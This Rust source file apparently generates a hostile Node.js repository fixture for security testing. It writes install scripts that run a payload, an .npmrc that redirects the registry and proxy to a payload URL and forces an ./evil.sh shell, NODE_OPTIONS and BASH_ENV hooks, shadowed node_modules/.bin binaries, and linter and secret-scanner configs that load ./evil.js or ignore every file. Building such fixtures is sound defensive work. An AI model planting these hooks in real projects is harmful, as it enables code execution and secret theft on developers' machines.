//! What Node, npm and their users read.

use super::{Maker, NODE};

// === impl Maker ===

impl Maker<'_> {
    pub(super) fn node(&mut self) {
        let shell = self.payload.shell_line("package.json scripts");
        let scripts =
            ["preinstall", "install", "postinstall", "prepare", "preaudit", "prels", "test"]
                .map(|name| format!("\"{name}\": {}", serde_json::Value::from(shell.as_str())));
        let package = format!(
            r#"{{
  "name": "app",
  "version": "1.0.0",
  "type": "module",
  "scripts": {{ {} }},
  "eslintConfig": {{ "root": true, "plugins": ["./evil.js"], "parser": "./evil.js", "rules": {{ "no-eval": "off" }} }},
  "eslintIgnore": ["**"],
  "stylelint": {{ "ignoreFiles": ["**"], "plugins": ["./evil.js"], "rules": {{}} }},
  "postcss": {{ "plugins": {{ "./evil.js": {{}} }} }},
  "browserslist": ["extends ./evil"],
  "secretlint": {{ "rules": [] }},
  "jscpd": {{ "ignore": ["**"], "minTokens": 100000 }},
  "htmlvalidate": {{ "root": true, "rules": {{}} }},
  "devEngines": {{ "runtime": {{ "name": "evil", "onFail": "error" }} }},
  "prettier": "./evil.js"
}}
"#,
            scripts.join(", ")
        );
        self.add(NODE, "package.json", package);
        let url = self.payload.url("npmrc");
        let npmrc = format!(
            "registry={url}/\n@scope:registry={url}/\naudit=false\nomit[]=dev\nomit[]=optional\n\
             ignore-scripts=false\nscript-shell=./evil.sh\nnode-options=--require ./evil.cjs\ngit=./evil.sh\n\
             cache=./evil-cache\nproxy={url}\nhttps-proxy={url}\n"
        );
        self.add(NODE, ".npmrc", npmrc);
        for name in [".yarnrc", ".yarnrc.yml", ".pnpmfile.cjs", "bunfig.toml"] {
            let code = self.payload.node(name);
            self.add(
                NODE,
                name,
                if name.ends_with("cjs") { code } else { "# nothing\n".to_owned() },
            );
        }
    }

    pub(super) fn node_programs(&mut self) {
        for name in ["evil.js", "evil.cjs", "evil.mjs"] {
            let code = self.payload.node(name);
            self.add(NODE, name, code);
        }
        for program in ["eslint", "stylelint", "npm", "node", "git", "semgrep", "python", "sh"] {
            let code = self.payload.shell(program);
            self.add(NODE, &format!("node_modules/.bin/{program}"), code.clone());
            self.add(NODE, program, code);
        }
        self.add(NODE, "evil.sh", self.payload.shell("evil.sh"));
        for name in [".env", ".envrc"] {
            let text = "NODE_OPTIONS=--require ./evil.cjs\nPYTHONSTARTUP=conftest.py\nPYTHONPATH=.\n\
                 SEMGREP_RULES=./evil.yml\nESLINT_USE_FLAT_CONFIG=false\nBASH_ENV=./evil.sh\n";
            self.add(&[], name, text);
        }
        for name in ["tsconfig.json", "jsconfig.json"] {
            let text = format!(
                r#"{{ "extends": "{}/secret.json", "exclude": ["**"], "files": [], "compilerOptions": {{ "plugins": [{{ "name": "./evil.js" }}] }} }}"#,
                self.outside
            );
            self.add(&["eslint", "oxlint"], name, text);
        }
    }

    pub(super) fn eslint_and_oxlint(&mut self) {
        for name in [
            "eslint.config.js",
            "eslint.config.mjs",
            "eslint.config.cjs",
            "eslint.config.ts",
            ".eslintrc.js",
            ".eslintrc.cjs",
            ".eslintrc.mjs",
        ] {
            let code = self.payload.node(name);
            self.add(&["eslint"], name, code);
        }
        let eslintrc = r#"{ "root": true, "plugins": ["./evil.js"], "ignorePatterns": ["**"], "rules": { "no-eval": "off" } }"#;
        for name in [".eslintrc", ".eslintrc.json", ".eslintrc.yml", ".eslintrc.yaml"] {
            self.add(&["eslint", "oxlint"], name, eslintrc);
        }
        let oxlint = r#"{ "ignorePatterns": ["**"], "jsPlugins": ["./evil.js"], "categories": { "correctness": "off" } }"#;
        self.add(&["oxlint"], ".oxlintrc.json", oxlint);
        self.add(&["oxlint"], ".oxlintrc.jsonc", oxlint);
        for name in ["oxlint.config.ts", "oxlint.config.js"] {
            let code = self.payload.node(name);
            self.add(&["oxlint"], name, code);
        }
    }

    pub(super) fn node_configurations(&mut self) {
        let data = r#"{ "ignoreFiles": ["**"], "plugins": ["./evil.js"], "customSyntax": "./evil.js", "rules": {} }"#;
        for name in [".stylelintrc", ".stylelintrc.json", ".stylelintrc.yaml", ".stylelintrc.yml"] {
            self.add(&["stylelint"], name, data);
        }
        for name in [
            ".stylelintrc.js",
            ".stylelintrc.cjs",
            ".stylelintrc.mjs",
            "stylelint.config.js",
            "stylelint.config.cjs",
            "stylelint.config.mjs",
            "postcss.config.js",
            "postcss.config.cjs",
            ".postcssrc.js",
        ] {
            let code = self.payload.node(name);
            self.add(&["stylelint"], name, code);
        }
        self.add(&["stylelint"], ".postcssrc", r#"{ "plugins": { "./evil.js": {} } }"#);
        self.add(&["stylelint"], ".browserslistrc", "extends ./evil.cjs\n");
        let html = r#"{ "root": true, "plugins": ["./evil.cjs"], "rules": {}, "elements": ["./evil.cjs"] }"#;
        self.add(&["html-validate"], ".htmlvalidate.json", html);
        for name in [".htmlvalidate.js", ".htmlvalidate.cjs", ".htmlvalidate.mjs"] {
            let code = self.payload.node(name);
            self.add(&["html-validate"], name, code);
        }
        let none = r#"{ "rules": [], "plugins": ["./evil.js"] }"#;
        for name in
            [".secretlintrc", ".secretlintrc.json", ".secretlintrc.yaml", ".secretlintrc.yml"]
        {
            self.add(&["secretlint"], name, none);
        }
        for name in [".secretlintrc.js", ".secretlintrc.cjs", ".secretlintrc.mjs"] {
            let code = self.payload.node(name);
            self.add(&["secretlint"], name, code);
        }
        self.add(&["jscpd"], ".jscpd.json", r#"{ "ignore": ["**"], "minTokens": 100000 }"#);
        self.add(&["retire"], ".retireignore", "@mustache\n**\n.\n");
        let ignored = r#"[{ "component": "mustache", "justification": "no" }, { "path": "." }]"#;
        self.add(&["retire"], ".retireignore.json", ignored);
    }
}
